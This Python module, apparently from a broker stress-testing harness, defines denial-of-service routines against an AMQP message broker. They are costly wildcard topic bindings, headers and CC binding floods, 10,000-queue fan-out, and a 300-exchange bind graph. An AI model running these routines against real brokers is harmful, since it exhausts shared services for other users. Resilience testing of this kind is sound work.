"""What a user who may bind and publish does with bindings that make each message costly."""

from __future__ import annotations

import contextlib
from typing import Any, Final

from target import Target

from support.wire import raw

#: Requests that are sent together.
_BATCH: Final = 1000

PATTERNS: Final = 1000
WEIGHTED: Final = 300
WEIGHT: Final = "30"
HEADERS: Final = 20_000
COPY_KEYS: Final = 256
BINDINGS_PER_KEY: Final = 200
QUEUES: Final = 10_000
EXCHANGES: Final = 300


def _send(connection: raw.Connection, requests: list[bytes]) -> None:
    """Send requests without replies, and wait until the broker has done them."""
    for first in range(0, len(requests), _BATCH):
        connection.send(b"".join(requests[first : first + _BATCH]))
    connection.sync(1)


def _bind(queue: str, exchange: str, key: str = "", **values: Any) -> bytes:
    """Return a bind without a reply."""
    return raw.method(
        1, "queue.bind", queue=queue, exchange=exchange, routing_key=key, no_wait=True, **values
    )


def _declare(connection: raw.Connection, queue: str) -> None:
    """Declare a queue that keeps little."""
    connection.declare(1, queue, durable=False, arguments={"x-max-length": 10})


def _refused(connection: raw.Connection) -> None:
    """Open the channel anew that the broker closed."""
    connection.expect(1, "channel.close")
    connection.send(raw.method(1, "channel.close-ok"))
    connection.open_channel(1)


def attack_many_wildcards(target: Target) -> None:
    """A thousand binding keys of many `#`, and publishes that are refused for them."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        _declare(connection, "q")
        _send(connection, [_bind("q", "amq.topic", key) for key in _patterns()])
        message = raw.publish(1, "amq.topic", ".".join(["a", "b", "c", "d"] * 32), b"x")
        while not target.over:
            connection.send(message)
            _refused(connection)


def attack_some_wildcards(target: Target) -> None:
    """The same patterns, and keys of so few words that they are taken, each another one."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        _declare(connection, "q")
        _send(connection, [_bind("q", "amq.topic", key) for key in _patterns()])
        number = 0
        while not target.over:
            keys = [f"{number + place}.a.b.c.d.a.b.c.d.a.b" for place in range(100)]
            number += 100
            _send(connection, [raw.publish(1, "amq.topic", key, b"x") for key in keys])


def _patterns() -> list[str]:
    """Return binding keys in which every second word is `#`, each with a beginning of its own."""
    keys = []
    for number in range(PATTERNS):
        own = "".join("abcd"[number // 4**place % 4] for place in range(5))
        keys.append(".".join(f"#.{word}" for word in own + "abcd" * 14))
    return keys


def attack_hash_weights(target: Target) -> None:
    """Bindings of some weight to a consistent-hash exchange, made and removed again and again."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        connection.call(1, "exchange.declare", exchange="ring", type="x-consistent-hash")
        names = [f"r{number}" for number in range(WEIGHTED)]
        for name in names:
            _declare(connection, name)
        while not target.over:
            _send(connection, [_bind(name, "ring", WEIGHT) for name in names])
            _send(connection, [raw.publish(1, "ring", name, b"x") for name in names])
            unbinds = [
                raw.method(1, "queue.unbind", queue=name, exchange="ring", routing_key=WEIGHT)
                for name in names
            ]
            connection.send(*unbinds)
            for _ in names:
                connection.expect(1, "queue.unbind-ok")


def attack_many_headers_bindings(target: Target) -> None:
    """A headers exchange with 20,000 bindings that differ in one header, and publishes to it."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        _declare(connection, "q")
        _send(
            connection,
            [
                _bind("q", "amq.headers", arguments={"kind": "order", "id": number})
                for number in range(HEADERS)
            ],
        )
        messages = [
            raw.publish(1, "amq.headers", "", b"x", headers={"kind": "order", "id": number})
            for number in range(1000)
        ]
        while not target.over:
            _send(connection, messages)


def attack_copy_keys(target: Target) -> None:
    """Messages with 256 routing keys in CC, each of which matches 200 bindings."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        _declare(connection, "q")
        keys = [f"k{number}" for number in range(COPY_KEYS)]
        _send(
            connection,
            [
                _bind("q", "amq.direct", key, arguments={"n": number})
                for key in keys
                for number in range(BINDINGS_PER_KEY)
            ],
        )
        message = raw.publish(1, "amq.direct", "k0", b"x", headers={"CC": keys})
        while not target.over:
            _send(connection, [message] * 20)


def attack_wide_fan_out(target: Target) -> None:
    """Messages to 10,000 queues."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        connection.call(1, "exchange.declare", exchange="all", type="fanout")
        for number in range(QUEUES):
            _declare(connection, f"f{number}")
        _send(connection, [_bind(f"f{number}", "all") for number in range(QUEUES)])
        while not target.over:
            _send(connection, [raw.publish(1, "all", "", b"x")] * 20)


def attack_exchange_graph(target: Target) -> None:
    """Messages to 300 exchanges, each bound to each, by keys that were never seen."""
    with contextlib.suppress(OSError, raw.Closed), target.log_in() as connection:
        connection.open_channel(1)
        names = [f"g{number}" for number in range(EXCHANGES)]
        for name in names:
            connection.call(1, "exchange.declare", exchange=name, type="fanout")
        for name in names:
            binds = [
                raw.method(1, "exchange.bind", destination=other, source=name, no_wait=True)
                for other in names
            ]
            _send(connection, binds)
        number = 0
        while not target.over:
            number += 20
            keys = [str(number + place) for place in range(20)]
            _send(connection, [raw.publish(1, "g0", key, b"x") for key in keys])
